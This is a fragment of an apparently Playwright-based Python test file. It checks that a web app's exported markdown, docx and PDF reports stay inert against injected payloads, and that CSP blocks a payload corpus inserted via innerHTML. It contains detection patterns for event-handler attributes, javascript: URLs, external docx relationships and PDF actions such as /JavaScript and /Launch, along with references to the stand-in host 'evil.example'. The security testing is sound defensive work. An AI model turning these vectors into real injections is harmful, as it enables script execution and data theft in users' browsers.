        assert not re.search(r"\bon\w+\s*=|javascript:|vbscript:|data:|src\s*=|style\s*=", attrs, re.I), f"{what}: {attrs[:120]}"
    assert marker in html, f"{what}: {marker!r} is gone"  # still there, as text


def _docx_is_inert(data: bytes, what: str, must_contain: list[str]) -> None:
    import docx

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.endswith(".rels"):
                rels = z.read(name).decode()
                assert 'TargetMode="External"' not in rels, f"{what}: an external relationship in {name}"
            if name.endswith(".xml"):
                # Text is escaped, so a payload can only be character data: no element or attribute of its own.
                for el in ElementTree.fromstring(z.read(name)).iter():
                    local = el.tag.rsplit("}", 1)[-1]
                    assert local not in ("fldSimple", "hyperlink", "object", "pict", "imagedata"), f"{what}: <{local}> in {name}"
                    assert not any(EVIL in v or "pwned" in v for v in el.attrib.values()), f"{what}: {el.attrib} in {name}"
                    if local == "instrText":
                        assert (el.text or "").strip().startswith("TOC"), f"{what}: a field {el.text!r} in {name}"
    text = squash("\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs))
    for t in must_contain:
        assert squash(t) in text, f"{what}: {t[:80]!r} is not in the document as text"


def _pdf_is_inert(data: bytes, what: str) -> str:
    from pypdf import PdfReader

    for key in (b"/JavaScript", b"/JS ", b"/JS(", b"/Launch", b"/SubmitForm", b"/ImportData", b"/GoToR", b"/RichMedia"):
        assert key not in data, f"{what}: {key!r}"
    reader = PdfReader(io.BytesIO(data))
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A")
            if action is not None:
                uri = str(action.get_object().get("/URI", ""))
                assert re.match(r"^(https?|mailto):", uri), f"{what}: a link to {uri!r}"
    return squash("\n".join(p.extract_text() or "" for p in reader.pages))


def _check_downloads(ctx: BrowserContext, base: str, wpath: str, f: Filled, shown: list[str]) -> None:
    md = _get(ctx, base + f"{wpath}/report.md").decode("utf-8")
    _markdown_is_inert(md, "report.md", "__pwned_1")
    _docx_is_inert(_get(ctx, base + f"{wpath}/report.docx"), "report.docx", [*shown, f.persona["name"], *f.groups[:2], f.title])
    pdf = _pdf_is_inert(_get(ctx, base + f"{wpath}/report.pdf"), "report.pdf")
    for t in [f.title, f.persona["name"], *ALL_PAYLOADS[:5]]:
        assert squash(t)[:60] in pdf, f"report.pdf: {t[:60]!r} is not in the text"
    _markdown_is_inert(_get(ctx, base + f"{wpath}/followups.md").decode("utf-8"), "followups.md", CORPUS[5].split("=")[0])
    _docx_is_inert(_get(ctx, base + f"{wpath}/followups.docx"), "followups.docx", [f.followup["text"], f.followup["responsible"]])


def test_the_watch_sees_a_payload_that_gets_in(server: Server, pages: Pages) -> None:
    """The detectors above can fail: the corpus put into a page as HTML (what a template without escaping,
    or a script using innerHTML, would do) is reported. With the CSP: violations and injected markup, and
    not one request leaves localhost (the CSP alone stops them). Without it (``bypass_csp``): payloads
    run (globals, a dialog) and try the payloads' hosts, which the route records and aborts. A
    ``<meta http-equiv=refresh>`` navigates whatever the CSP says: the route stops it."""
    insert = """items => items.forEach(html => {
      const box = document.createElement('div'); box.innerHTML = html; document.body.appendChild(box);
    })"""
    refresh = next(p for p in CORPUS if "http-equiv=refresh" in p)
    payloads = [p for p in ALL_PAYLOADS if p != refresh]
    for bypass in (False, True):
        watch = Watch(pages)
        page = watch.page(watch.context(bypass_csp=bypass), "probe")
        page.goto(server.base + "/join")
        settle(page)
        if bypass:
            with page.expect_event("dialog"), page.expect_event("requestfailed", predicate=lambda r: EVIL in r.url):
                page.evaluate(insert, payloads)
            page.wait_for_function("Object.getOwnPropertyNames(window).some(k => k.startsWith('__pwned'))")
        else:
            page.evaluate(insert, payloads)
            page.wait_for_function("window.__pvCsp().some(v => v.startsWith('img-src') && v.includes('evil.example'))")
        state = watch.inspect(page, "probe")
        assert len(state["injected"]) > 10, state["injected"]
        assert any("onerror=" in v for v in state["injected"]) and any("<iframe>" in v for v in state["injected"])
        if bypass:
            assert state["pwned"] and watch.dialogs and any(EVIL in u for u in watch.offsite), watch.report()
        else:
            assert any(v.startswith("script-src") for v in state["csp"]), state["csp"]
            assert state["pwned"] == [] and watch.offsite == [] and watch.dialogs == [], watch.report()

        with page.expect_event("requestfailed", predicate=lambda r: r.resource_type == "document" and EVIL in r.url):
            page.evaluate(insert, [refresh])  # CSP or not: a navigation
        assert any(u.startswith("document ") and "p17." + EVIL in u for u in watch.offsite), watch.offsite
